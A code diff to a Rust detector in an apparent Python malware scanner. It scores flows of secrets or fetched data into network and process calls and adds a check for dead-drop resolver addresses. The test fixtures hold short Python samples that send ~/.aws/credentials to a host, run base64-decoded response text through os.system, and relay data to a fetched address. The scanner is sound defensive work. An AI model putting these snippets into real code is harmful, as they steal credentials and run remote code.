@@ -1,10 +1,10 @@
 //! WH200 data-flow: sensitive or untrusted data reaching a sink in the same scope.
 
-use ruff_python_ast::ExprCall;
+use ruff_python_ast::{Expr, ExprCall};
 use ruff_text_size::Ranged;
 
 use crate::finding::{Category, ExecContext, Rule};
-use crate::walker::{Checker, SourceKind};
+use crate::walker::{Checker, SourceKind, SourceRef};
 
 /// The detector.
 pub const RULE: Rule = Rule {
@@ -26,38 +26,106 @@ pub enum SinkKind {
     Process,
 }
 
-/// Checks whether any argument of a sink call carries source data.
+/// Checks whether any argument of a sink call carries source data, and reports the most
+/// severe flow when several arguments carry different data.
 pub fn check_sink(checker: &mut Checker, call: &ExprCall, sink: SinkKind) {
-    let arguments: Vec<&ruff_python_ast::Expr> = call
+    let arguments: Vec<&Expr> = call
         .arguments
         .args
         .iter()
         .chain(call.arguments.keywords.iter().map(|k| &k.value))
         .collect();
-    let Some(source) = arguments.into_iter().find_map(|arg| checker.source_in(arg)) else {
-        return;
-    };
-    let Some(source) = checker.sources.get(source).cloned() else {
-        return;
-    };
-    // Uploading or running an ordinary local file is what tools do; it is no flow of stolen data.
-    if source.kind == SourceKind::FileContent {
-        return;
-    }
+    let mut found: Vec<usize> = arguments
+        .into_iter()
+        .filter_map(|arg| checker.source_in(arg))
+        .collect();
+    found.dedup();
     let context = checker.context();
-    let early = matches!(context, ExecContext::Install | ExecContext::Import);
-    let stealer = super::secrets_access::is_stealer_target(&source.label);
-    let from_environment_variable = source.label.starts_with("environment variable");
     // Where it goes: a client sends its token to its vendor, not to a paste site, a tunnel, a
     // raw IP or a free app host.
     let endpoint = (sink == SinkKind::Network)
         .then(|| sink_endpoint(checker, call))
         .flatten();
+    let Some((source, severity)) = found
+        .into_iter()
+        .filter_map(|index| checker.sources.get(index).cloned())
+        // Uploading or running an ordinary local file is what tools do; it is no flow of
+        // stolen data.
+        .filter(|source| source.kind != SourceKind::FileContent)
+        .map(|source| {
+            let severity = flow_severity(&source, sink, context, endpoint.is_some());
+            (source, severity)
+        })
+        .max_by(|a, b| a.1.total_cmp(&b.1))
+    else {
+        return;
+    };
+    let sink_word = match sink {
+        SinkKind::Network => "network",
+        SinkKind::Process => "process",
+    };
+    let sink_location = checker.location(call.range());
+    let destination = endpoint.map_or_else(String::new, |label| format!(", a {label}"));
+    checker.report(
+        &RULE,
+        call.range(),
+        format!(
+            "{} ({}) → {sink_word} sink ({sink_location}{destination}) {}",
+            source.label,
+            source.location,
+            context.phrase()
+        ),
+        severity,
+        vec!["flow", flow_tag(source.kind, sink)],
+    );
+}
+
+/// `post(get(CONFIG_URL).text, data)`: the address a request goes to was itself read from a
+/// response. Pagination and discovery documents do this in plain sight, so alone it weighs
+/// little; behind an address the code hides, it is a dead-drop resolver, which lets its owner
+/// move the collection server without publishing a new release (see `combo:dead-drop`).
+pub fn check_destination_from_response(checker: &mut Checker, call: &ExprCall, target: &Expr) {
+    let Some(source) = checker
+        .source_in(target)
+        .and_then(|index| checker.sources.get(index).cloned())
+        .filter(|source| source.kind == SourceKind::Network)
+    else {
+        return;
+    };
+    let context = checker.context();
+    let severity = match context {
+        ExecContext::Install | ExecContext::Import => 0.3,
+        ExecContext::Runtime => 0.1,
+        ExecContext::TestOrDocs => 0.02,
+    };
+    checker.report(
+        &RULE,
+        call.range(),
+        format!(
+            "{} ({}) → the address of the request at {} {}",
+            source.label,
+            source.location,
+            checker.location(call.range()),
+            context.phrase()
+        ),
+        severity,
+        vec!["flow", "address-from-response"],
+    );
+}
+
+/// The weight of one flow: what data, where to, and when it runs.
+fn flow_severity(
+    source: &SourceRef,
+    sink: SinkKind,
+    context: ExecContext,
+    to_endpoint: bool,
+) -> f64 {
+    let early = matches!(context, ExecContext::Install | ExecContext::Import);
+    let stealer = super::secrets_access::is_stealer_target(&source.label);
+    let from_environment_variable = source.label.starts_with("environment variable");
     let severity = match (source.kind, sink) {
         (SourceKind::Secret, SinkKind::Network) if early => 0.9,
-        (SourceKind::Secret | SourceKind::Environment, SinkKind::Network) if endpoint.is_some() => {
-            0.65
-        }
+        (SourceKind::Secret | SourceKind::Environment, SinkKind::Network) if to_endpoint => 0.65,
         // Clients send their own API tokens to their own services when called; stolen browser
         // or wallet data has no such excuse.
         (SourceKind::Secret, SinkKind::Network) if stealer => 0.6,
@@ -94,29 +162,11 @@ pub fn check_sink(checker: &mut Checker, call: &ExprCall, sink: SinkKind) {
         (SourceKind::Secret, SinkKind::Process) if early => 0.15,
         (_, _) => 0.05,
     };
-    let severity = if context == ExecContext::TestOrDocs {
+    if context == ExecContext::TestOrDocs {
         severity * 0.3
     } else {
         severity
-    };
-    let sink_word = match sink {
-        SinkKind::Network => "network",
-        SinkKind::Process => "process",
-    };
-    let sink_location = checker.location(call.range());
-    let destination = endpoint.map_or_else(String::new, |label| format!(", a {label}"));
-    checker.report(
-        &RULE,
-        call.range(),
-        format!(
-            "{} ({}) → {sink_word} sink ({sink_location}{destination}) {}",
-            source.label,
-            source.location,
-            context.phrase()
-        ),
-        severity,
-        vec!["flow", flow_tag(source.kind, sink)],
-    );
+    }
 }
 
 /// The label of a suspicious endpoint the call's target names, when it is known.
@@ -194,6 +244,49 @@ mod tests {
     fn credentials_read_through_a_handle_flow() {
         let code = "import os, urllib.request\npath = os.path.expanduser('~/.aws/credentials')\nwith open(path) as handle:\n    stolen = handle.read()\nurllib.request.urlopen('https://example.invalid', data=stolen.encode())\n";
         assert!(max_severity("p/pkg/__init__.py", code, "WH200") >= 0.85);
+    }
+
+    #[test]
+    fn the_most_severe_argument_is_the_flow_reported() {
+        // The path is decoded data, the body is the user name: the user name is the flow.
+        let code = "import zlib, getpass, json, http.client\ndef send(blob):\n    c = http.client.HTTPSConnection('example.invalid')\n    c.request('POST', zlib.decompress(blob).decode(), json.dumps({'n': getpass.getuser()}))\n";
+        let flows: Vec<_> = findings("p/pkg/m.py", code)
+            .into_iter()
+            .filter(|f| f.rule == "WH200")
+            .collect();
+        assert_eq!(flows.len(), 1, "{flows:?}");
+        assert!(flows[0].message.starts_with("user name"), "{flows:?}");
+    }
+
+    #[test]
+    fn decoding_a_response_keeps_its_origin() {
+        let code = "import base64, os, requests\ndef run():\n    body = requests.get('https://example.invalid/c').text\n    os.system(base64.b64decode(body).decode())\n";
+        let flows: Vec<_> = findings("p/pkg/m.py", code)
+            .into_iter()
+            .filter(|f| f.rule == "WH200")
+            .collect();
+        assert!(
+            flows[0].message.starts_with("response of requests.get"),
+            "{flows:?}"
+        );
+        assert!(max_severity("p/pkg/m.py", code, "WH200") >= 0.35);
+    }
+
+    #[test]
+    fn an_address_read_from_a_response_is_noted_lightly() {
+        let code = "import requests\ndef relay(data):\n    server = requests.get('https://example.invalid/where').text.strip()\n    requests.post(server, data=data)\n";
+        let relayed: Vec<_> = findings("p/pkg/m.py", code)
+            .into_iter()
+            .filter(|f| f.tags.contains(&"address-from-response"))
+            .collect();
+        assert_eq!(relayed.len(), 1, "{relayed:?}");
+        assert!(relayed[0].severity <= 0.1);
+        let fixed = "import requests\ndef send(data):\n    requests.post('https://example.invalid/api', data=data)\n";
+        assert!(
+            findings("p/pkg/m.py", fixed)
+                .iter()
+                .all(|f| !f.tags.contains(&"address-from-response"))
+        );
     }
 
     #[test]
